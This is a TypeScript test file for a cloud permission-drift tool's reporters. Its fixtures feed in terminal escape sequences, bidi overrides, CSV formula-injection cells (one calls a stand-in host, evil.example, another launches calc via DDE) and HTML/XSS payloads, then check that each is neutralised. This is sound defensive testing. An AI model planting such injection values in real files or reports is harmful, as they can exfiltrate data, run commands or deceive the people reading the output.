/**
 * Hostile content in input files reaching the reporters: terminal escapes and bidi overrides in
 * names, Sids, services, notes, warnings and file names (table, Markdown, diff and trend text),
 * while JSON keeps the exact value.
 */

import { describe, expect, it } from 'vitest';
import { diffReports } from '../../src/engine/drift.js';
import { trendReports } from '../../src/engine/drift-trend.js';
import type { Report } from '../../src/model/report.js';
import { renderDiffMarkdown } from '../../src/reporters/drift-diff-markdown.js';
import { renderDiffTable } from '../../src/reporters/drift-diff-table.js';
import { renderTrendMarkdown } from '../../src/reporters/drift-trend-markdown.js';
import { renderTrendTable } from '../../src/reporters/drift-trend-table.js';
import { CSV_COLUMNS, renderCsv } from '../../src/reporters/csv.js';
import { renderJson } from '../../src/reporters/json.js';
import { renderMarkdown } from '../../src/reporters/markdown.js';
import { renderTable } from '../../src/reporters/table.js';
import { visibleStrings, visibleText } from '../../src/reporters/visible-text.js';
import { twoAccountsPartialCoverage } from './fixtures/two-accounts-partial-coverage.js';

/** Retitles the terminal window, then clears the screen. */
const TITLE_AND_CLEAR = '\x1b]0;pwned\x07\x1b[2J';
/** Right-to-left override: the text after it reads backwards. */
const RLO = '\u202e';
/** The single-byte CSI of the C1 set: some terminals run it like ESC [. */
const C1_CSI = '\x9b';

/** Anything a terminal could act on: C0 (tab and newline aside, which are layout), DEL, C1, bidi marks. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
/** ESC as chalk writes colour (SGR only: ESC [ digits m) is the one control a coloured table may hold. */
const NON_SGR_CONTROL = /\x1b(?!\[[0-9;]*m)|[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function hostileReport(): Report {
  const report = twoAccountsPartialCoverage();
  const [first, second, third] = report.findings;
  if (first === undefined || second === undefined || third === undefined) throw new Error('fixture changed');
  first.principal.name = `ci-deployer${TITLE_AND_CLEAR}`;
  first.principal.id = `arn:aws:iam::111122223333:user/ci/ci-deployer${TITLE_AND_CLEAR}`;
  first.recommendation = `Remove ${first.principal.name} from group platform-admins`;
  second.service = `iam${C1_CSI}31m`;
  const grant = second.permissions[0]?.grantedBy[0];
  if (grant === undefined || !('policy' in grant)) throw new Error('fixture changed');
  grant.policy.name = `app-${RLO}yolped`;
  grant.statement.sid = `Pass${TITLE_AND_CLEAR}`;
  third.evidence.reason = `No call by tag value prod${TITLE_AND_CLEAR}`;
  report.coverage[0]?.notes.push(`event name Get${RLO}Object`);
  report.warnings.unshift({ code: 'log-file-unreadable', message: `bad record in ${TITLE_AND_CLEAR}.json.gz`, file: `logs/${TITLE_AND_CLEAR}\u2066.json.gz` });
  return report;
}

describe('visibleText', () => {
  it('shows C0, DEL, C1 and bidi controls as escapes and leaves other text alone', () => {
    expect(visibleText(`a${TITLE_AND_CLEAR}b`)).toBe('a\\x1b]0;pwned\\x07\\x1b[2Jb');
    expect(visibleText(`x${RLO}y\u2066\u2069\u200e\u200f\u061c`)).toBe('x\\u202ey\\u2066\\u2069\\u200e\\u200f\\u061c');
    expect(visibleText(`\x00\x7f${C1_CSI}`)).toBe('\\x00\\x7f\\x9b');
    expect(visibleText('one\ttwo\nthree\rfour')).toBe('one two three four');
    expect(visibleText('ünïcödé → 名前 🔴')).toBe('ünïcödé → 名前 🔴');
  });

  it('maps every string of a value, keys and __proto__ included, and returns a clean value as it is', () => {
    const clean = { a: ['x', { b: 'y' }] };
    expect(visibleStrings(clean)).toBe(clean);
    const dirty = JSON.parse('{"__proto__":{"k\\u001b":"v\\u0007"},"list":["ok","\\u202e"]}') as Record<string, unknown>;
    const out = visibleStrings(dirty) as Record<string, unknown>;
    expect(Object.keys(out)).toEqual(['__proto__', 'list']);
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(out['__proto__']).toEqual({ 'k\\x1b': 'v\\x07' });
    expect(out['list']).toEqual(['ok', '\\u202e']);
    // The input is not changed.
    expect((dirty['list'] as string[])[1]).toBe(RLO);
  });
});

describe('terminal escapes in the reporters', () => {
  it('the table shows escapes instead of sending them, without colour', () => {
    const text = renderTable(hostileReport(), { isColor: false, width: 120 });
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('ci-deployer\\x1b]0;pwned\\x07');
    expect(text).toContain('\\x9b31m');
    expect(text).toContain('bad record in \\x1b]0;pwned\\x07\\x1b[2J.json.gz');
    expect(text).toContain('\\u2066.json.gz');
    expect(text).toContain('Get\\u202eObject');
  });

  it('the coloured table holds no control but its own colour codes', () => {
    const text = renderTable(hostileReport(), { isColor: true, width: 120 });
    expect(text).toContain('\x1b['); // chalk did colour it
    expect(text).not.toMatch(NON_SGR_CONTROL);
    expect(text).not.toContain('\x1b[2J');
  });

  it('Markdown shows escapes instead of raw controls', () => {
    const text = renderMarkdown(hostileReport());
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('ci-deployer\\x1b]0;pwned\\x07\\x1b[2J');
    expect(text).toContain('app-\\u202eyolped');
  });

  it('JSON keeps the exact values', () => {
    const report = JSON.parse(renderJson(hostileReport())) as Report;
    expect(report.findings[0]?.principal.name).toBe(`ci-deployer${TITLE_AND_CLEAR}`);
    expect(report.warnings[0]?.file).toBe(`logs/${TITLE_AND_CLEAR}\u2066.json.gz`);
  });

  it('the diff table and diff Markdown show escapes', () => {
    const old = twoAccountsPartialCoverage();
    old.findings = [];
    const diff = diffReports(old, hostileReport(), { oldSource: `old${RLO}.json`, newSource: `new${TITLE_AND_CLEAR}.json` });
    for (const text of [renderDiffTable(diff, { isColor: false }), renderDiffTable(diff, { isColor: true })]) {
      expect(text).not.toMatch(NON_SGR_CONTROL);
      expect(text).toContain('ci-deployer\\x1b]0;pwned\\x07');
      expect(text).toContain('new\\x1b]0;pwned\\x07\\x1b[2J.json');
    }
    const markdown = renderDiffMarkdown(diff);
    expect(markdown).not.toMatch(RAW_CONTROL);
    expect(markdown).toContain('old\\u202e.json');
  });

  it('the trend table and trend Markdown show escapes in report names', () => {
    const trend = trendReports([
      { report: twoAccountsPartialCoverage(), source: `reports/w1${TITLE_AND_CLEAR}.json` },
      { report: hostileReport(), source: `reports/w2${RLO}.json` },
    ]);
    const table = renderTrendTable(trend, { isColor: false });
    expect(table).not.toMatch(RAW_CONTROL);
    expect(table).toContain('w2\\u202e.json');
    const markdown = renderTrendMarkdown(trend);
    expect(markdown).not.toMatch(RAW_CONTROL);
    expect(markdown).toContain('w1\\x1b]0;pwned\\x07\\x1b[2J.json');
  });
});

/** RFC 4180 records (quoted fields may hold commas, quotes doubled, CR and LF). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] as string;
    if (isQuoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') isQuoted = false;
      else field += c;
    } else if (c === '"') isQuoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return records;
}

describe('CSV formula injection', () => {
  /** GCP custom-role permissions are free text in the snapshot: service and action come from them. */
  function formulaReport(): Report {
    const report = twoAccountsPartialCoverage();
    const [first, second] = report.findings;
    const permission = first?.permissions[0];
    if (first === undefined || second === undefined || permission === undefined) throw new Error('fixture changed');
    first.service = '=HYPERLINK("https://evil.example/?q="&A1,"click")';
    permission.action = '@SUM(1)';
    const other = first.permissions[1];
    if (other !== undefined) other.action = '-1+2';
    const third = first.permissions[2];
    if (third !== undefined) third.action = "+cmd|' /C calc'!A0";
    first.account = '\t=1+1';
    first.principal.id = '\r=1+1';
    second.firstSeen = '-2024-01-01';
    return report;
  }

  it('neutralises every cell that starts with = + - @ tab or CR, in every column', () => {
    const [header, ...rows] = csvRecords(renderCsv(formulaReport()));
    expect(header).toEqual([...CSV_COLUMNS]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const cells = rows.flat();
    expect(cells).toContain('\'=HYPERLINK("https://evil.example/?q="&A1,"click")');
    expect(cells).toContain("'@SUM(1)");
    // No column of the CSV is numeric (counts are not exported; ids and dates are text), so a
    // leading minus is never a legitimate negative number here: it is neutralised like the rest.
    expect(cells).toContain("'-1+2");
    expect(cells).toContain("'+cmd|' /C calc'!A0");
    expect(cells).toContain("'\t=1+1");
    expect(cells).toContain("'\r=1+1");
    expect(cells).toContain("'-2024-01-01");
  });

  it('leaves ordinary values as they are', () => {
    const rows = csvRecords(renderCsv(twoAccountsPartialCoverage())).slice(1);
    expect(rows.flat().filter((c) => c.startsWith("'"))).toEqual([]);
  });
});

/** Markdown outside code spans, where GitHub turns `@name` into a mention and runs HTML. */
function prose(markdown: string): string {
  return markdown.replace(/(`+)[\s\S]*?\1/g, '');
}

/** An `@` GitHub would read as a mention: not after a word character, followed by a name. */
const MENTION = /(^|[^A-Za-z0-9_`])@[A-Za-z0-9]/m;

describe('Markdown mentions, HTML and pipes', () => {
  function gcpReport(): Report {
    const report = twoAccountsPartialCoverage();
    const [first] = report.findings;
    const permission = first?.permissions[0];
    if (first === undefined || permission === undefined) throw new Error('fixture changed');
    first.provider = 'gcp';
    permission.grantedBy = [
      {
        chain: [{ type: 'project', id: 'p-1' }],
        resource: { type: 'project', id: 'p-1' },
        binding: { index: 0, role: '@team <b>bold</b> & | cell' },
        member: 'serviceAccount:sa@p-1.iam.gserviceaccount.com',
        roleKind: 'custom',
      },
    ];
    first.evidence.reason = 'cc @security-team <img src=x onerror=alert(1)> | not a cell';
    return report;
  }

  it('a role named @team is no mention, and its HTML and pipes are text', () => {
    const text = renderMarkdown(gcpReport());
    const outside = prose(text);
    expect(outside).not.toMatch(MENTION);
    expect(outside).not.toContain('<b>');
    expect(outside).not.toContain('<img');
    expect(outside).toContain('&lt;b&gt;bold&lt;/b&gt; &amp; \\| cell');
    expect(outside).toContain('&lt;img src=x onerror=alert(1)&gt; \\| not a cell');
    // The @ stays readable: a zero-width space after it breaks the mention.
    expect(outside).toContain('@&#8203;team');
    expect(outside).toContain('@&#8203;security-team');
  });

  it('the diff Markdown escapes mentions, HTML and pipes in names, reasons and notes', () => {
    const old = twoAccountsPartialCoverage();
    old.findings = [];
    const changed = twoAccountsPartialCoverage();
    const [first] = changed.findings;
    if (first === undefined) throw new Error('fixture changed');
    first.principal.name = '@ops <script>x</script> | y';
    first.account = '@acct';
    const diff = diffReports(old, changed);
    diff.notes.push('note for @reviewers <i>now</i>');
    const outside = prose(renderDiffMarkdown(diff));
    expect(outside).not.toMatch(MENTION);
    expect(outside).not.toContain('<script>');
    expect(outside).not.toContain('<i>');
    expect(outside).toContain('&lt;script&gt;');
    expect(outside).toContain('\\| y');
  });

  it('the trend Markdown escapes mentions and HTML in notes and pipes in report names', () => {
    const trend = trendReports([
      { report: twoAccountsPartialCoverage(), source: 'reports/~@team|<x>.json' },
      { report: twoAccountsPartialCoverage(), source: 'reports/b.json' },
    ]);
    const text = renderTrendMarkdown(trend);
    const outside = prose(text);
    expect(outside).not.toMatch(MENTION);
    expect(outside).not.toContain('<x>');
    // The report name is a code span inside a table: its pipe is escaped so the cell holds.
    expect(text).toContain('`~@team\\|<x>.json`');
  });
});
